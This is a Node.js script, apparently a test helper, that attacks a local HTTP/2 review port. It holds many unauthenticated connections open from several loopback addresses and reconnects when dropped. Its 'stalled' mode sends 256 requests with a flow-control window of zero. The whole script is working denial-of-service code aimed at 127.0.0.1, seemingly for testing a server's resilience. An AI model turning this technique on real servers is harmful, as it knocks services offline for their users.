// Attacks a review port without a credential until it is ended: keeps as many
// connections open as it is told to, each from one of four loopback addresses.
//
// usage: node attack.mjs PORT stalled|silent CONNECTIONS
import { connect as connectNet } from 'node:net'
import { connect as connectTls } from 'node:tls'

const [port, attack, connections] = [Number(process.argv[2]), process.argv[3], Number(process.argv[4])]

function frame (type, flags, stream, payload) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(type, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

function field (index, value) {
  return Buffer.concat([index, Buffer.from([value.length]), Buffer.from(value)])
}

const HEADERS = Buffer.concat([Buffer.from([0x83, 0x87]), field(Buffer.from([4]), '/authenticate'), field(Buffer.from([1]), 'localhost')])
// SETTINGS_INITIAL_WINDOW_SIZE of 0, and requests without a body
const STALLED = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])),
  ...Array.from({ length: 256 }, (_, index) => frame(1, 5, 2 * index + 1, HEADERS))
])

const ATTACKS = {
  stalled (socket) {
    const secure = connectTls({ socket, servername: 'localhost', rejectUnauthorized: false, ALPNProtocols: ['h2'] }).on('error', () => {})
    secure.once('secureConnect', () => { secure.write(STALLED) })
  },
  silent () {}
}

function open (index) {
  const socket = connectNet({ port, host: '127.0.0.1', localAddress: `127.0.0.${2 + index % 4}` }).on('error', () => {})
  // comes back as soon as it is thrown out
  socket.once('close', () => { setTimeout(() => { open(index) }, 10) })
  ATTACKS[attack](socket)
}

for (let index = 0; index < connections; index++) open(index)
process.send?.('attacking')
